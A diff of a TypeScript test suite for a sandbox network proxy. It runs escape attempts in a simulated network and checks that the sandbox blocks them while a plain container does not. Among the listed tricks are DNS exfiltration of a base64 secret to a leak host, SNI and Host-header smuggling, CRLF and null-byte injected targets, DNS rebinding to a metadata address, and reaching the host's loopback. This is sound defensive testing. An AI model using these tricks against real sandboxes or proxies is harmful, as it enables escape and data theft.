@@ -1,37 +1,61 @@
 import { beforeAll, describe, expect, test } from "vitest";
+import type { Sandbox } from "../../packages/sandbox/src/sandbox.ts";
+import { publishedPort } from "../../packages/sandboxd/src/api.ts";
+import { sandboxdPaths } from "../../packages/sandboxd/src/paths.ts";
 import { networkSettings } from "../../packages/schema/src/network.ts";
 import { attack } from "../setup/attack.ts";
-import { curl } from "../setup/curl.ts";
+import { ended } from "../setup/command-line.ts";
+import { curl, curlEach } from "../setup/curl.ts";
 import { type Place, placeOf } from "../setup/place.ts";
-import { plainContainer } from "../setup/plain-container.ts";
+import { type PlainContainer, plainContainer } from "../setup/plain-container.ts";
 import { newSandbox } from "../setup/sandbox.ts";
 import { type OnlineInstance, onlineInstance } from "../setup/sandboxd.ts";
 import {
   addresses,
   canHaveSmallInternet,
+  machineAddress,
   type SmallInternet,
   smallInternet,
 } from "../setup/small-internet.ts";
 import { temporaryWorkspace } from "../setup/temporary-workspace.ts";
 import { until } from "../setup/until.ts";
+import { closedRanges, tunnels } from "./network-details.ts";
 
-const hosts = ["public.test", "other.test", "github.com", "evilgithub.com", "rebind.test", "inner.test"];
+/** What the attack reports of a tunnel: what the proxy said to it, and what came through. */
+interface Tunnelled {
+  status: string;
+  through: string | null;
+}
+
+const named = ["inner.test", "rebind.test", "rebind-plain.test", "exact.test", "a.wild.test", "link.test"];
+const hosts = ["public.test", "other.test", "github.com", "evilgithub.com", ...named];
 
 describe.skipIf(!canHaveSmallInternet)("a command in a sandbox with a network policy", () => {
   let internet: SmallInternet;
   let instance: OnlineInstance;
-  let plain: Place;
+  let plain: PlainContainer;
+  /** Another plain container: root, as most are, with a server of its own. */
+  let neighbour: PlainContainer;
+  let sandbox: Sandbox;
   let allowing: Place;
   let denying: Place;
 
   beforeAll(async () => {
     internet = await smallInternet(hosts);
-    internet.name("inner.test", [addresses.private]);
-    internet.name("rebind.test", [addresses.public], [addresses.metadata]);
+    for (const name of ["inner.test", "exact.test", "a.wild.test"]) internet.name(name, [addresses.private]);
+    internet.name("link.test", [addresses.metadata]);
+    for (const name of ["rebind.test", "rebind-plain.test"])
+      internet.name(name, [addresses.public], [addresses.metadata]);
     instance = await onlineInstance(internet);
     const flags = ["--network", internet.network, "--dns", addresses.names];
-    plain = await plainContainer(temporaryWorkspace(), { flags });
-    allowing = placeOf(await newSandbox(instance, temporaryWorkspace(), { name: "allowing" }));
+    const host = ["--add-host", `host.docker.internal:${machineAddress}`];
+    plain = await plainContainer(temporaryWorkspace(), { flags: [...flags, ...host] });
+    const main = ["node", "-e", serving("the neighbour", 7777)];
+    neighbour = await plainContainer(temporaryWorkspace(), { flags, user: "0:0", main });
+    const service = internet.machine([process.execPath, "-e", serving("the machine", 7777, 7778)]);
+    await new Promise((resolve) => service.stdout?.once("data", resolve));
+    sandbox = await newSandbox(instance, temporaryWorkspace(), { name: "allowing" });
+    allowing = placeOf(sandbox);
     denying = placeOf(
       await newSandbox(instance, temporaryWorkspace(), {
         name: "denying",
@@ -62,9 +86,10 @@ describe.skipIf(!canHaveSmallInternet)("a command in a sandbox with a network po
   describe("13 14 18 goes around the proxy", () => {
     const goal = JSON.stringify({ ...addresses, name: "c2VjcmV0.leak.test" });
 
-    test("a plain container sends to addresses, asks any resolver, and uses UDP, ICMP and IPv6", async () => {
-      const { quic: _, ...report } = await attack<Record<string, string>>(plain, "network.py", goal);
-      for (const [way, outcome] of Object.entries(report)) {
+    test("a plain container sends to addresses, asks any resolver, and uses UDP, ICMP, raw sockets and IPv6", async () => {
+      const report = await attack<Record<string, string>>(plain, "network.py", goal);
+      const { raw } = await attack<Record<string, string>>(neighbour, "network.py", goal);
+      for (const [way, outcome] of Object.entries({ ...report, raw })) {
         expect(`${way} ${outcome}`).toMatch(/answered \d+ bytes/);
       }
       expect(internet.seen.some(({ kind, name }) => kind === "dns" && name === "c2vjcmv0.leak.test")).toBe(
@@ -90,33 +115,52 @@ describe.skipIf(!canHaveSmallInternet)("a command in a sandbox with a network po
       await curl(denying, "http://c2VjcmV0.leak.test/");
       expect(internet.seen.slice(before)).toEqual([]);
     });
+
+    test("a resolver behind HTTPS or TLS is a host like any other", async () => {
+      const question = "https://other.test/dns-query?dns=c2VjcmV0";
+      const tls = JSON.stringify([{ target: "other.test:853", name: "other.test" }]);
+      expect((await curl(plain, question)).status).toBe(200);
+      const before = internet.seen.length;
+      for (const way of [[], ["--noproxy", "*"]])
+        expect((await curl(denying, ...way, question)).status).toBe(0);
+      const [stopped] = await attack<Tunnelled[]>(denying, "tunnel.py", tls);
+      expect(stopped?.status).toContain(" 403 ");
+      expect(internet.seen.slice(before)).toEqual([]);
+    });
   });
 
   describe("15 hides another host behind an allowed one", () => {
+    const lines = JSON.stringify([
+      { target: "github.com:443", name: "github.com" },
+      { target: "github.com:443", name: "other.test" },
+      { target: "github.com:443" },
+      { target: `${addresses.public}:443`, name: "github.com" },
+      { target: "github.com:80", raw: "GET / HTTP/1.1\r\nHost: other.test\r\n\r\n" },
+      { target: "github.com:9000", raw: "SSH-2.0-smuggler\r\n" },
+    ]);
+
     test("a plain container has nothing that would stop it", async () => {
-      expect(
-        (await curl(plain, "--resolve", `other.test:443:${addresses.public}`, "https://other.test/")).status,
-      ).toBe(200);
+      const reports = await attack<Tunnelled[]>(plain, "tunnel.py", lines, addresses.public);
+      expect(reports.map(({ through }) => through)).toEqual([
+        ...Array.from({ length: 4 }, () => expect.stringMatching(/^answered [1-9]/) as string),
+        "answered HTTP/1.1 200 OK",
+        "answered SSH-2.0-smuggler",
+      ]);
     });
 
     test("in ours the name of the TLS hello must be the one that was allowed, and there must be one", async () => {
       const before = internet.seen.length;
-      const reports = await attack<{ status: string; through: string | null }[]>(
-        denying,
-        "tunnel.py",
-        JSON.stringify([
-          { target: "github.com:443", name: "github.com" },
-          { target: "github.com:443", name: "other.test" },
-          { target: "github.com:443" },
-          { target: "github.com:443", raw: "GET / HTTP/1.1\r\nHost: other.test\r\n\r\n" },
-          { target: "github.com:443", raw: "SSH-2.0-smuggler\r\n" },
-          { target: `${addresses.public}:443`, name: "github.com" },
-        ]),
-      );
-      const [honest] = reports;
-      expect(honest?.through).toMatch(/^answered [1-9]/);
+      const reports = await attack<Tunnelled[]>(denying, "tunnel.py", lines);
+      expect(reports.map(({ through }) => through)).toEqual([
+        expect.stringMatching(/^answered [1-9]/),
+        "error: SSLError",
+        "error: SSLError",
+        null,
+        "answered HTTP/1.1 403 Forbidden",
+        "ended",
+      ]);
       const tunnelled = internet.seen.slice(before).filter(({ kind }) => !kind.startsWith("dns"));
-      expect(tunnelled.map(({ sni }) => sni)).toEqual(["github.com"]);
+      expect(tunnelled.map(({ kind, sni }) => [kind, sni])).toEqual([["https", "github.com"]]);
     });
 
     test("a Host header that is not the host that was asked for is refused", async () => {
@@ -134,6 +178,8 @@ describe.skipIf(!canHaveSmallInternet)("a command in a sandbox with a network po
       "github.com.evilgithub.com:443",
       "github.com\0.evilgithub.com:443",
       "github.com%00.other.test:443",
+      "github.com\r\n.other.test:443",
+      "github.com:443\r\nHost: other.test:443",
       "github.com@other.test:443",
       "[::ffff:203.0.113.10]:443",
       "3405803786:443",
@@ -152,10 +198,12 @@ describe.skipIf(!canHaveSmallInternet)("a command in a sandbox with a network po
 
     test("in ours none of them is taken for the allowed one", async () => {
       const before = internet.seen.length;
-      const lines = odd.map((target) => ({ target, name: "github.com" }));
-      const reports = await attack<{ status: string }[]>(denying, "tunnel.py", JSON.stringify(lines));
+      const doors = [false, true].flatMap((socks) =>
+        odd.map((target) => ({ target, socks, name: "github.com" })),
+      );
+      const reports = await attack<Tunnelled[]>(denying, "tunnel.py", JSON.stringify(doors));
       for (const [index, { status }] of reports.entries()) {
-        expect(`${odd[index]}: ${status}`).not.toMatch(/ 200 /);
+        expect(`${JSON.stringify(doors[index])}: ${status}`).not.toMatch(/ 200 /);
       }
       expect(internet.seen.slice(before)).toEqual([]);
     });
@@ -169,12 +217,14 @@ describe.skipIf(!canHaveSmallInternet)("a command in a sandbox with a network po
 
   describe("17 is led to an address that is not public", () => {
     const inner = [`http://${addresses.metadata}/`, `http://${addresses.private}/`, "http://inner.test/"];
+    const toMachine = "http://public.test/?redirect=http://host.docker.internal:7778/";
 
     test("a plain container goes there, also by a redirect", async () => {
       for (const url of inner)
         expect({ url, ...(await curl(plain, url)) }).toMatchObject({ url, status: 200 });
       const redirect = `http://public.test/?redirect=http://${addresses.metadata}/`;
       expect((await curl(plain, "--location", redirect)).body).toBe(`reached ${addresses.metadata}`);
+      expect((await curl(plain, "--location", toMachine)).body).toBe("the machine");
     });
 
     test("ours does not, whatever leads there", async () => {
@@ -183,32 +233,39 @@ describe.skipIf(!canHaveSmallInternet)("a command in a sandbox with a network po
       }
       const redirect = `http://public.test/?redirect=http://${addresses.metadata}/`;
       expect((await curl(allowing, "--location", redirect)).status).toBe(403);
+      expect((await curl(allowing, "--location", toMachine)).body).not.toContain("the machine");
     });
 
-    test("a name that changes between check and connect is connected to what was checked", async () => {
-      const reached: string[] = [];
-      for (let attempt = 0; attempt < 4; attempt++)
-        reached.push((await curl(allowing, "http://rebind.test/")).body);
+    test("a name that changes between check and connect leads a plain container there", async () => {
+      const [checked, ...connected] = await curlEach(plain, repeated("http://rebind-plain.test/"));
+      expect(checked?.body).toBe(`reached ${addresses.public}`);
+      expect(connected.at(-1)?.body).toBe(`reached ${addresses.metadata}`);
+    });
+
+    test("in ours it is connected to what was checked", async () => {
+      const fetched = await curlEach(allowing, repeated("http://rebind.test/"));
+      const reached = fetched.map(({ body }) => body);
       expect(reached[0]).toBe(`reached ${addresses.public}`);
       expect(reached.join()).not.toContain(addresses.metadata);
     });
   });
 
   describe("19 reaches for the machine that it runs on, and for other sandboxes", () => {
-    test("what listens on the machine's loopback, and on its own address, is out of reach until it is declared", async () => {
-      const serve = `require("node:http").createServer((q, r) => r.end("the machine")).listen(7777, "0.0.0.0", () => console.log("up"))`;
-      const service = internet.machine([process.execPath, "-e", serve]);
-      await new Promise((resolve) => service.stdout?.once("data", resolve));
-      for (const url of [
-        "http://host.docker.internal:7777/",
-        "http://localhost:7777/",
-        "http://127.0.0.1:7777/",
-        "http://198.51.100.2:7777/",
+    const machine = ["localhost", "127.0.0.1", machineAddress];
+
+    test("a plain container reaches the server of another one, and what listens on the machine", async () => {
+      for (const [host, said] of [
+        [neighbour.name, "the neighbour"],
+        ["host.docker.internal", "the machine"],
+        [machineAddress, "the machine"],
       ]) {
-        for (const way of [[], ["--noproxy", ""], ["--noproxy", "*"]]) {
-          expect((await curl(allowing, ...way, url)).body).not.toContain("the machine");
-        }
+        expect((await curl(plain, `http://${host}:7777/`)).body).toBe(said);
       }
+    });
+
+    test("what listens on the machine's loopback, and on its own address, is out of reach until it is declared", async () => {
+      const urls = ["host.docker.internal", ...machine].map((host) => `http://${host}:7777/`);
+      await expectUnreached(allowing, urls, "the machine");
       await instance.sandboxd.ask(
         { method: "POST", path: "/sandboxes/allowing/host-ports", body: { ports: [7777] } },
         networkSettings,
@@ -216,12 +273,123 @@ describe.skipIf(!canHaveSmallInternet)("a command in a sandbox with a network po
       expect((await curl(allowing, "http://host.docker.internal:7777/")).body).toBe("the machine");
       expect((await curl(denying, "http://host.docker.internal:7777/")).status).not.toBe(200);
     });
+
+    test("a port that another sandbox has published is the machine's, and no other sandbox's", async () => {
+      (await sandbox.exec(["node", "-e", serving("the neighbour", 7779)])).detach();
+      const path = "/sandboxes/allowing/ports";
+      const published = await until("it is served", async () => {
+        const { published: port } = await instance.sandboxd.ask(
+          { method: "POST", path, body: { inside: 7779 } },
+          publishedPort,
+        );
+        const said = await onMachine("curl", "--silent", `http://127.0.0.1:${port}/`);
+        return said.includes("the neighbour") ? port : undefined;
+      });
+      const urls = ["host.docker.internal", ...machine].flatMap((host) =>
+        [published, 7779].map((port) => `http://${host}:${port}/`),
+      );
+      await expectUnreached(denying, urls, "the neighbour");
+    });
+
+    test("sandboxd's control is not behind its doors, and its socket is not inside", async () => {
+      const { socket } = sandboxdPaths(instance.home);
+      const control = ["--unix-socket", socket, "http://sandboxd/status"];
+      expect(await onMachine("curl", "--silent", ...control)).toContain('"protocol"');
+      expect((await curl(allowing, ...control)).status).toBe(0);
+      const doors = [3128, 3129].map((port) => `http://127.0.0.1:${port}/status`);
+      await expectUnreached(allowing, doors, '"protocol"');
+    });
+
+    async function expectUnreached(place: Place, urls: readonly string[], said: string): Promise<void> {
+      for (const proxies of ["localhost", "", "*"]) {
+        const fetched = await curlEach(place, urls, "--noproxy", proxies);
+        for (const [index, { body }] of fetched.entries())
+          expect(`${urls[index]}: ${body}`).not.toContain(said);
+        expect(fetched).toHaveLength(urls.length);
+      }
+    }
+
+    async function onMachine(...command: [string, ...string[]]): Promise<string> {
+      return (await ended(internet.machine(command))).stdout;
+    }
+  });
+
+  describe("the details that decide", () => {
+    let ruled: Place;
+
+    beforeAll(async () => {
+      await internet.addAddresses(Object.values(closedRanges), plain.name);
+      const exact = [
+        "exact.test",
+        "link.test",
+        addresses.metadata,
+        addresses.private,
+        ...Object.values(closedRanges),
+      ];
+      const ports = ["github.com:443", "github.com:2525", "github.com:9000"];
+      const network = { policy: "deny" as const, allowHosts: ["*.wild.test", ...exact, ...ports] };
+      ruled = placeOf(await newSandbox(instance, temporaryWorkspace(), { name: "ruled", network }));
+    });
+
+    test("17 of the ranges that are not public a plain container reaches each; ours where a rule names the address", async () => {
+      // The last is a private address in the clothes of IPv6.
+      const rows = [...Object.entries(closedRanges), ["10.0.0.0/8", "::ffff:10.77.0.1"] as const];
+      const urls = rows.map(([, address]) => `http://${address.includes(":") ? `[${address}]` : address}/`);
+      const reached = rows.map(([, address]) => ({
+        status: 200,
+        body: `reached ${address.replace("::ffff:", "")}`,
+      }));
+      expect(await curlEach(plain, urls)).toEqual(reached);
+      expect(await curlEach(ruled, urls, "--noproxy", "")).toEqual(reached);
+      const before = internet.seen.length;
+      const stopped = await curlEach(allowing, [...urls, "http://[ff0e::7]/"], "--noproxy", "");
+      expect(stopped).toEqual(
+        [...rows, ["ff00::/8"]].map(([range]) => ({
+          status: 403,
+          body: expect.stringContaining(`private range ${range}\n`) as string,
+        })),
+      );
+      expect(internet.seen.slice(before)).toEqual([]);
+    });
+
+    test("17 a wildcard does not open a private address, and nothing opens a link-local one", async () => {
+      const urls = ["exact.test", "a.wild.test", "link.test", addresses.metadata].map(
+        (host) => `http://${host}/`,
+      );
+      for (const { status } of await curlEach(plain, urls)) expect(status).toBe(200);
+      const said = (status: number, words: string) => ({
+        status,
+        body: expect.stringContaining(words) as string,
+      });
+      expect(await curlEach(ruled, urls, "--noproxy", "")).toEqual([
+        said(200, `reached ${addresses.private}`),
+        said(403, "private range 10.0.0.0/8"),
+        said(403, "never 169.254.0.0/16"),
+        said(403, "never 169.254.0.0/16"),
+      ]);
+    });
+
+    test("15 what names no server, or hides it, passes where a rule names host and port; another name never", async () => {
+      const lines = JSON.stringify(tunnels.map(([, line]) => line));
+      const came = async (place: Place, ...directly: string[]): Promise<(string | null)[]> => {
+        const reports = await attack<Tunnelled[]>(place, "tunnel.py", lines, ...directly);
+        return reports.map(({ through }) => through);
+      };
+      const [free, byHost, byPort] = [
+        await came(plain, addresses.public),
+        await came(denying),
+        await came(ruled),
+      ];
+      const rows = tunnels.map(([what], index) => [what, free[index], byHost[index], byPort[index]]);
+      expect(rows).toEqual(tunnels.map(([what, , ...expected]) => [what, ...expected]));
+    });
   });
 
   test("20 an empty list under deny is nothing, not everything", async () => {
     const empty = placeOf(
       await newSandbox(instance, temporaryWorkspace(), { name: "empty", network: { policy: "deny" } }),
     );
+    expect((await curl(plain, "http://github.com/")).status).toBe(200);
     expect((await curl(empty, "http://github.com/")).status).toBe(403);
     expect((await curl(empty, "--noproxy", "*", "https://github.com/")).status).toBe(0);
   });
@@ -232,6 +400,7 @@ describe.skipIf(!canHaveSmallInternet)("a command in a sandbox with a network po
     expect((await curl(allowing, "http://public.test/")).status).toBe(503);
     expect((await curl(allowing, "--noproxy", "*", "http://public.test/")).status).toBe(0);
     expect(internet.seen.slice(before)).toEqual([]);
+    expect((await curl(plain, "http://public.test/")).status).toBe(200);
     await instance.startSandboxd();
     await until(
       "the network is back",
@@ -239,3 +408,13 @@ describe.skipIf(!canHaveSmallInternet)("a command in a sandbox with a network po
     );
   });
 });
+
+/** A server that answers everything with these words. */
+function serving(words: string, ...ports: readonly number[]): string {
+  const listen = ports.map((port) => `server().listen(${port}, "0.0.0.0", () => console.log("up"));`);
+  return `const server = () => require("node:http").createServer((q, r) => r.end("${words}")); ${listen.join(" ")}`;
+}
+
+function repeated(url: string): string[] {
+  return Array.from({ length: 4 }, () => url);
+}
